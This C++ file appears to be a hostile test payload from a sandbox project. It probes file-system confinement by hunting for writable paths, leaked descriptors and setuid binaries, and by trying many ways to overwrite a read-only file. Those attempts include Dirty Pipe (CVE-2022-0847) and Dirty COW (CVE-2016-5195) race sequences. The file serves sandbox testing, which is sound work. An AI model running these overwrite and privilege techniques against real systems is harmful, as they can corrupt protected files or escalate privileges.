// Attempts on files: the image, /proc, /sys, devices.

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <initializer_list>

#include "tests/payloads/hostile/arguments.h"
#include "tests/payloads/hostile/attempts.h"

namespace sandglass::hostile {
namespace {

constexpr size_t kPage = 4096;

int TryOpen(const char* path, int flags) {
  // The parent's number is known here alone.
  constexpr char kParent[] = "/proc/parent/";
  char other[64];
  if (strncmp(path, kParent, strlen(kParent)) == 0) {
    snprintf(other, sizeof(other), "/proc/%d/%s", static_cast<int>(getppid()),
             path + strlen(kParent));
    path = other;
  }
  const int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY, 0600);
  if (fd < 0) return errno;
  close(fd);
  return 0;
}

int could_write = 0;

int Visit(const char* path, const struct stat* facts, int kind, FTW* /*at*/) {
  if (kind == FTW_F && S_ISREG(facts->st_mode)) {
    // Appending, since a file that runs can't be opened otherwise.
    if (TryOpen(path, O_WRONLY | O_APPEND) == 0) ++could_write;
  } else if (kind == FTW_D || kind == FTW_DNR) {
    char name[4200];
    snprintf(name, sizeof(name), "%s/.hostile", path);
    if (TryOpen(name, O_WRONLY | O_CREAT | O_EXCL) == 0) {
      unlink(name);
      ++could_write;
    }
  }
  if (could_write > 0) fprintf(stderr, "hostile: could write %s\n", path);
  return could_write;
}

void ReadPage(const char* path, char* page) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || read(fd, page, kPage) <= 0) NoSetUp(path);
  close(fd);
}

// Each of these once was, or could be, a way around a file that is only open
// for reading.
void TryToChange(const char* path) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) NoSetUp(path);
  char bytes[] = "hostile";
  char again[64];
  snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
  for (const char* name : {path, static_cast<const char*>(again)}) {
    (void)TryOpen(name, O_RDWR);
    (void)TryOpen(name, O_WRONLY | O_TRUNC);
    (void)!truncate(name, 0);
    (void)chmod(name, 0777);
    (void)!chown(name, getuid(), getgid());
    (void)utimes(name, nullptr);
  }
  (void)!write(fd, bytes, sizeof(bytes));
  (void)!pwrite(fd, bytes, sizeof(bytes), 0);
  (void)!ftruncate(fd, 0);
  (void)fchmod(fd, 0777);
  (void)fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, kPage);
  int flags = FS_IMMUTABLE_FL;
  (void)ioctl(fd, FS_IOC_SETFLAGS, &flags);
  const int own = open("overwrite-source", O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  if (own < 0 || write(own, bytes, sizeof(bytes)) < 0) NoSetUp("file");
  (void)ioctl(fd, FICLONE, own);
  off_t from = 0;
  (void)!sendfile(fd, own, &from, sizeof(bytes));
  off64_t at = 0;
  off64_t into = 0;
  (void)!copy_file_range(own, &at, fd, &into, sizeof(bytes), 0);
  // Pages of the file in a pipe that is then written to (CVE-2022-0847).
  int pipe_ends[2];
  if (pipe(pipe_ends) == 0) {
    static char filler[1 << 16];
    (void)!write(pipe_ends[1], filler, sizeof(filler));
    (void)!read(pipe_ends[0], filler, sizeof(filler));
    off64_t start = 0;
    (void)!splice(fd, &start, pipe_ends[1], nullptr, 1, 0);
    (void)!write(pipe_ends[1], bytes, sizeof(bytes));
  }
  // A private mapping, written through /proc while its pages are thrown away
  // (CVE-2016-5195).
  void* mapping = mmap(nullptr, kPage, PROT_READ, MAP_PRIVATE, fd, 0);
  const int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  if (mapping != MAP_FAILED && memory >= 0) {
    const pid_t thrower = fork();
    if (thrower == 0) {
      for (int i = 0; i < 20000; ++i) madvise(mapping, kPage, MADV_DONTNEED);
      _exit(0);
    }
    for (int i = 0; i < 2000; ++i) {
      (void)!pwrite(memory, bytes, sizeof(bytes),
                    static_cast<off_t>(reinterpret_cast<size_t>(mapping)));
      madvise(mapping, kPage, MADV_DONTNEED);
    }
    if (thrower > 0) waitpid(thrower, nullptr, 0);
  }
  void* shared =
      mmap(nullptr, kPage, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (shared != MAP_FAILED) memcpy(shared, bytes, sizeof(bytes));
  shared = mmap(nullptr, kPage, PROT_READ, MAP_SHARED, fd, 0);
  if (shared != MAP_FAILED &&
      mprotect(shared, kPage, PROT_READ | PROT_WRITE) == 0) {
    memcpy(shared, bytes, sizeof(bytes));
  }
  (void)unlink(path);
  (void)rename("overwrite-source", path);
  (void)!link(path, "overwrite-link");
  (void)TryOpen("overwrite-link", O_RDWR);
  (void)unlink("overwrite-link");
  (void)unlink("overwrite-source");
}

// Whether the kernel would give the program more rights than its starter has.
bool IsMarked(const char* path) {
  struct stat facts = {};
  char capabilities[64];
  return stat(path, &facts) == 0 &&
         ((facts.st_mode & (S_ISUID | S_ISGID)) != 0 ||
          getxattr(path, "security.capability", capabilities,
                   sizeof(capabilities)) > 0);
}

// EPERM when the program ran as any other does.
int RunMarked(const char* path) {
  int ends[2];
  if (pipe(ends) != 0) NoSetUp("pipe");
  const pid_t child = fork();
  if (child < 0) NoSetUp("fork");
  if (child == 0) {
    dup2(ends[1], 1);
    // ld.so(8): shows what the kernel says of the program, AT_SECURE too, and
    // is ignored where that is set.
    char show[] = "LD_SHOW_AUXV=1";
    char* environment[] = {show, nullptr};
    char option[] = "--version";
    char name[128];
    snprintf(name, sizeof(name), "%s", path);
    char* arguments[] = {name, option, nullptr};
    alarm(3);
    execve(path, arguments, environment);
    _exit(kNoSetUp);
  }
  close(ends[1]);
  static char text[1 << 16];
  size_t size = 0;
  while (size < sizeof(text) - 1) {
    const ssize_t more = read(ends[0], text + size, sizeof(text) - 1 - size);
    if (more <= 0) break;
    size += static_cast<size_t>(more);
  }
  close(ends[0]);
  text[size] = '\0';
  int status = 0;
  waitpid(child, &status, 0);
  // Not for everybody, or not to be run.
  if (WIFEXITED(status) && WEXITSTATUS(status) == kNoSetUp) return EACCES;
  const char* secure = strstr(text, "AT_SECURE:");
  const char* user = strstr(text, "AT_EUID:");
  const bool marked = secure == nullptr || user == nullptr ||
                      strtol(secure + strlen("AT_SECURE:"), nullptr, 10) != 0 ||
                      strtol(user + strlen("AT_EUID:"), nullptr, 10) !=
                          static_cast<long>(getuid());
  if (marked) fprintf(stderr, "hostile: %s has gained rights\n", path);
  return marked ? 0 : EPERM;
}

int ran_marked = 0;

int VisitMarked(const char* path, const struct stat*, int kind, FTW* /*at*/) {
  if (kind != FTW_F || !IsMarked(path)) return 0;
  const int error = RunMarked(path);
  if (error == EPERM) ++ran_marked;
  return error == 0 ? 1 : 0;
}

}  // namespace

int Open(const Words& words) {
  return TryOpen(words[0], static_cast<int>(Value(words[1])));
}

int Read(const Words& words) {
  const int fd = open(words[0], O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
  if (fd < 0) return errno;
  char byte = 0;
  const ssize_t size = read(fd, &byte, 1);
  const int error = size < 0 ? errno : size == 0 ? ENODATA : 0;
  close(fd);
  return error;
}

int List(const Words& words) {
  DIR* directory = opendir(words[0]);
  if (directory == nullptr) return errno;
  int entries = 0;
  // NOLINTNEXTLINE(concurrency-mt-unsafe)
  while (const dirent* entry = readdir(directory)) {
    if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0) {
      ++entries;
    }
  }
  closedir(directory);
  return entries > 0 ? 0 : ENODATA;
}

int Walk(const Words& words) {
  for (int i = 0; i < words.count; ++i) {
    // NOLINTNEXTLINE(concurrency-mt-unsafe)
    if (nftw(words[i], Visit, 64, FTW_PHYS | FTW_MOUNT) < 0 &&
        errno != ENOENT) {
      return errno;
    }
  }
  return could_write > 0 ? 0 : EROFS;
}

int Descriptors(const Words& words) {
  for (int fd = 0; fd < 4096; ++fd) {
    bool expected = false;
    for (int i = 0; i < words.count; ++i) {
      // NOLINTNEXTLINE(cert-err34-c)
      expected = expected || fd == atoi(words[i]);
    }
    if (!expected && fcntl(fd, F_GETFD) >= 0) {
      fprintf(stderr, "hostile: descriptor %d is open\n", fd);
      return 0;
    }
  }
  return EBADF;
}

int SetUid(const Words& words) {
  for (int i = 0; i < words.count; ++i) {
    // NOLINTNEXTLINE(concurrency-mt-unsafe)
    if (nftw(words[i], VisitMarked, 64, FTW_PHYS | FTW_MOUNT) > 0) return 0;
  }
  return ran_marked > 0 ? EPERM : ENODATA;
}

int Overwrite(const Words& words) {
  char before[kPage] = {};
  char after[kPage] = {};
  ReadPage(words[0], before);
  const int error = TryOpen(words[0], O_WRONLY | O_APPEND);
  TryToChange(words[0]);
  ReadPage(words[0], after);
  return memcmp(before, after, kPage) == 0 ? error : 0;
}

}  // namespace sandglass::hostile
